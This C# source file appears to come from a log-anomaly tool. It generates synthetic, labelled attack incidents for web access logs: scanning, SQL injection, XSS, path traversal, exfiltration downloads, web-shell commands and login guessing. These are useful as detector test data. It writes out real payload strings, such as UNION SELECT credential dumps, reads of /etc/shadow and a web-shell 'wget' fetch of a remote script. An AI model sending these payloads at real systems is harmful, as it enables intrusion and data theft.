using LogAnomaly.Numerics;

namespace LogAnomaly.Synthesis;

/// <summary>What can be planted in an access log.</summary>
internal sealed class AccessIncidents
{
    private static readonly string[] s_scannedPaths =
    [
        "/wp-login.php", "/.env", "/.git/config", "/xmlrpc.php", "/phpmyadmin/index.php", "/wp-admin/install.php",
        "/.aws/credentials",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/backup.zip", "/config.php.bak", "/.git/HEAD",
        "/server-status",
        "/actuator/env", "/solr/admin/info/system", "/boaform/admin/formLogin", "/cgi-bin/luci", "/.svn/entries",
        "/db.sql",
        "/owa/auth/logon.aspx", "/administrator/index.php", "/.DS_Store", "/wp-content/plugins/file-manager/readme.txt",
    ];

    private static readonly string[] s_scannerAgents =
        ["python-requests/2.32.3", "Mozilla/5.0 zgrab/0.x", "Go-http-client/1.1", "-", "curl/8.5.0",
         "Mozilla/5.0 (compatible; Nmap Scripting Engine)"];

    private static readonly string[] s_injections =
    [
        "/search?q=lamp%27+UNION+SELECT+user,password+FROM+users--+-", "/search?q=%27+OR+%271%27%3D%271",
        "/products/?id=7+AND+SLEEP(5)", "/search?q=x%27%3BDROP+TABLE+orders%3B--",
        "/products/?id=-1+UNION+ALL+SELECT+NULL,version(),NULL",
    ];

    private static readonly string[] s_scripts =
    [
        "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        "/search?q=%22%3E%3Cimg+src%3Dx+onerror%3Dalert(1)%3E",
        "/contact?name=%3Csvg/onload%3Dfetch(%27//c.example.net%27)%3E",
    ];

    private static readonly string[] s_traversals =
    [
        "/../../../../etc/passwd", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "/download?file=../../../../etc/shadow",
        "/static/..%252f..%252f..%252fetc/passwd", "/media/%2e%2e/%2e%2e/%2e%2e/windows/win.ini",
    ];

    private static readonly string[] s_commands =
        ["id", "uname+-a", "cat+/etc/passwd", "ls+-la+/var/www", "wget+http://203.0.113.66/x.sh"];
    private static readonly string[] s_methods = ["TRACE", "PROPFIND", "DEBUG", "TRACK", "MKCOL"];
    private static readonly string[] s_loot =
        ["/backup/customers.sql.gz", "/api/v1/export?table=customers", "/media/site-2025-12.tar.gz"];

    private readonly SeededRandom _random;
    private readonly AccessSite _site;
    private readonly AccessLineWriter _lines;

    /// <summary>Creates the incidents.</summary>
    /// <param name="stage">Gives the generator.</param>
    /// <param name="site">The site that is attacked.</param>
    /// <param name="lines">Takes the lines.</param>
    public AccessIncidents(SceneStage stage, AccessSite site, AccessLineWriter lines)
    {
        _random = stage.IncidentRandom;
        _site = site;
        _lines = lines;
        All =
        [
            new(SyntheticLabel.Scanner, 5, 40, IncidentHours.Any, PlayScanner),
            new(SyntheticLabel.SqlInjection, 1, 4, IncidentHours.Any, Probes(s_injections)),
            new(SyntheticLabel.CrossSiteScripting, 1, 3, IncidentHours.Any, Probes(s_scripts)),
            new(SyntheticLabel.PathTraversal, 1, 4, IncidentHours.Any, Probes(s_traversals)),
            new(SyntheticLabel.ServerErrorBurst, 4, 30, IncidentHours.Any, PlayServerErrors),
            new(SyntheticLabel.Exfiltration, 1, 2, IncidentHours.Any, PlayExfiltration),
            new(SyntheticLabel.WebShell, 1, 4, IncidentHours.Any, PlayWebShell),
            new(SyntheticLabel.RareMethod, 1, 2, IncidentHours.Any, PlayRareMethod),
            new(SyntheticLabel.LoginGuessing, 5, 30, IncidentHours.Any, PlayLoginGuessing),
        ];
    }

    /// <summary>All kinds.</summary>
    public IReadOnlyList<Incident> All { get; }

    private void PlayScanner(long ticks, int count)
    {
        AccessClient client = Attacker();
        int first = _random.NextInt(s_scannedPaths.Length);
        for (int index = 0; index < count; index++)
        {
            string path = s_scannedPaths[(first + index) % s_scannedPaths.Length];
            bool isForbidden = path.StartsWith("/.", StringComparison.Ordinal) || path == "/server-status";
            _lines.Add(ticks, client, "GET", path, isForbidden ? 403 : 404, isForbidden ? 318 : 5127);
            ticks = SceneStage.Later(ticks, 0.1 + _random.NextExponential(0.5));
        }
    }

    private Action<long, int> Probes(string[] targets) => (ticks, count) => PlayProbes(ticks, count, targets);

    private void PlayProbes(long ticks, int count, string[] targets)
    {
        AccessClient client = Attacker();
        int first = _random.NextInt(targets.Length);
        for (int index = 0; index < count; index++)
        {
            string target = targets[(first + index) % targets.Length];
            int status = target.Contains('?', StringComparison.Ordinal) ? (_random.NextInt(3) == 0 ? 500 : 200) : 400;
            _lines.Add(ticks, client, "GET", target, status, status == 200 ? _random.NextInt(5900, 6600) : 612);
            ticks = SceneStage.Later(ticks, 0.5 + _random.NextExponential(4.0));
        }
    }

    private void PlayServerErrors(long ticks, int count)
    {
        int status = 500 + _random.NextInt(2, 4);
        for (int index = 0; index < count; index++)
        {
            AccessClient client = _site.NextVisitor(_random);
            _lines.Add(ticks, client, "GET", _site.NextPage(_random).Path, status, status == 503 ? 582 : 497);
            ticks = SceneStage.Later(ticks, _random.NextExponential(5.0));
        }
    }

    private void PlayExfiltration(long ticks, int count)
    {
        AccessClient client = Attacker();
        for (int index = 0; index < count; index++)
        {
            long bytes = 1_000_000L * _random.NextInt(400, 3900);
            _lines.Add(ticks, client, "GET", s_loot[_random.NextInt(s_loot.Length)], 200,
                bytes + _random.NextInt(1_000_000));
            ticks = SceneStage.Later(ticks, 60.0 + _random.NextExponential(120.0));
        }
    }

    private void PlayWebShell(long ticks, int count)
    {
        AccessClient client = Attacker();
        for (int index = 0; index < count; index++)
        {
            string command = s_commands[_random.NextInt(s_commands.Length)];
            _lines.Add(ticks, client, "POST", "/media/uploads/thumb.php?c=" + command, 200, _random.NextInt(20, 2400));
            ticks = SceneStage.Later(ticks, 2.0 + _random.NextExponential(15.0));
        }
    }

    private void PlayRareMethod(long ticks, int count)
    {
        AccessClient client = Attacker();
        for (int index = 0; index < count; index++)
        {
            _lines.Add(ticks, client, s_methods[_random.NextInt(s_methods.Length)], "/", 405, 329);
            ticks = SceneStage.Later(ticks, 1.0 + _random.NextExponential(3.0));
        }
    }

    private void PlayLoginGuessing(long ticks, int count)
    {
        AccessClient client = Attacker();
        for (int index = 0; index < count; index++)
        {
            _lines.Add(ticks, client, "POST", "/account/login", 401, 5311, AccessSite.Origin + "/account/login");
            ticks = SceneStage.Later(ticks, 0.4 + _random.NextExponential(1.2));
        }
    }

    private AccessClient Attacker() => new(
        _site.Addresses.Stranger(_random), s_scannerAgents[_random.NextInt(s_scannerAgents.Length)], "HTTP/1.1");
}
